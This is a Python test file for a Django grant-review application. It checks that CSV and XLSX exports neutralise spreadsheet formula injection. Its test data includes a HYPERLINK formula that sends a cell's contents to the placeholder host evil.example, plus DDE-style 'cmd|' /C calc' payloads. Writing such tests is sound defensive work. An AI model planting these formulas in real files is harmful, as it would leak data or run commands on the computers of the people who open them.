"""The instruction exports (CSV and XLSX): nothing in them can run when an officer opens the
file (formula injection, issue 13 finding 1), and they follow the blind-review rule of the
pages (finding 2)."""

import csv
import re
import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from django_scopes import scope

from applications.models import Structure
from reviews import services
from reviews.models import Assignment
from tests.factories.applications import StructureFactory
from tests.factories.reviews import FiledDossierFactory, ReviewFactory

D = Decimal
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("no_staff_2fa")]

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez ici")'
PAYLOADS = [HYPERLINK, "+33 1 23 45 67 89", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
            "\t=1+1", "\r=1+1", "  =1+1"]


def url(name, tenant):
    return reverse(f"reviews:{name}", kwargs={"tenant_slug": tenant.slug})


@pytest.fixture
def hostile(tenant, call, officers):
    """A structure named like a formula, a review whose opinion and name fields are formulas;
    the exporting officer has submitted their own review (they may read the others')."""
    with scope(tenant=tenant):
        dossier = FiledDossierFactory(call=call, status="in_review", title="@titre",
                                      structure=StructureFactory(name=HYPERLINK))
        ReviewFactory(dossier=dossier, officer=officers["drac1"], funder="drac",
                      opinion=PAYLOADS[2], total=D("14.40"))
        Assignment.objects.create(dossier=dossier, officer=officers["cnm"], funder="cnm")
        ReviewFactory(dossier=dossier, officer=officers["cnm"], funder="cnm",
                      opinion=PAYLOADS[3], total=D("11.00"))
        services.summary_refresh(dossier=dossier)
    return dossier


def test_csv_export_neutralises_every_formula_cell(client, tenant, officers, hostile):
    client.force_login(officers["cnm"])
    raw = client.get(url("export_csv", tenant)).getvalue().decode("utf-8-sig")
    rows = [dict(zip(*pair)) for pair in [(r[0], line) for r in [list(
        csv.reader(io.StringIO(raw), delimiter=";"))] for line in r[1:]]]
    assert [r["Structure"] for r in rows] == ["'" + HYPERLINK] * 2
    assert sorted(r["Avis technique"] for r in rows) == sorted(["'" + PAYLOADS[2],
                                                               "'" + PAYLOADS[3]])
    # Numbers stay numbers (French decimal comma), never prefixed.
    assert sorted(r["Note /20"] for r in rows) == ["11,00", "14,40"]
    for row in rows:
        for value in row.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), value


def test_xlsx_export_stores_formula_text_as_text(client, tenant, officers, hostile):
    from openpyxl import load_workbook

    client.force_login(officers["cnm"])
    content = client.get(url("export_xlsx", tenant)).getvalue()
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula at all
    sheet = load_workbook(io.BytesIO(content)).active
    header = [c.value for c in sheet[1]]
    structure = sheet.cell(row=2, column=header.index("Structure") + 1)
    assert structure.value == HYPERLINK and structure.data_type == "s"
    assert structure.quotePrefix is True  # editing the cell keeps it text
    opinions = sorted(sheet.cell(row=r, column=header.index("Avis technique") + 1).value
                      for r in (2, 3))
    assert opinions == sorted([PAYLOADS[2], PAYLOADS[3]])
    note = sheet.cell(row=2, column=header.index("Note /20") + 1)
    assert note.data_type == "n" and note.value in (14.4, 11.0)


def test_a_formula_typed_by_an_applicant_in_the_structure_form_is_inert_in_the_export(
        client, tenant, call, officers):
    """The attack for real: the applicant names their structure through the profile form."""
    from tests.factories.portal import UserFactory

    attacker = UserFactory(email="attaquant@example.org")
    client.force_login(attacker)
    response = client.post(reverse("structures:create"), {
        "name": HYPERLINK, "siret": "732 829 320 00074", "legal_form": "association",
        "address": "1 rue du Port", "postal_code": "59000", "city": "Lille",
        "creation_date": "2015-03-01", "fte_hours": "400", "main_activity": "recorded_music",
        "artists_count": "3", "regional_artists_count": "1"})
    assert response.status_code == 302, re.findall(r'fr-(?:error|message--error)[^>]*>([^<]*)',
                                                   response.content.decode())
    structure = Structure.objects.get(siret="73282932000074")
    assert structure.name == HYPERLINK
    with scope(tenant=tenant):
        FiledDossierFactory(call=call, structure=structure, status="submitted")
    client.force_login(officers["cnm"])
    raw = client.get(url("export_csv", tenant)).getvalue().decode("utf-8-sig")
    assert f"'{HYPERLINK}" in raw.replace('""', '"')
    assert f";{HYPERLINK[:10]}" not in raw and f';"{HYPERLINK[:10]}' not in raw
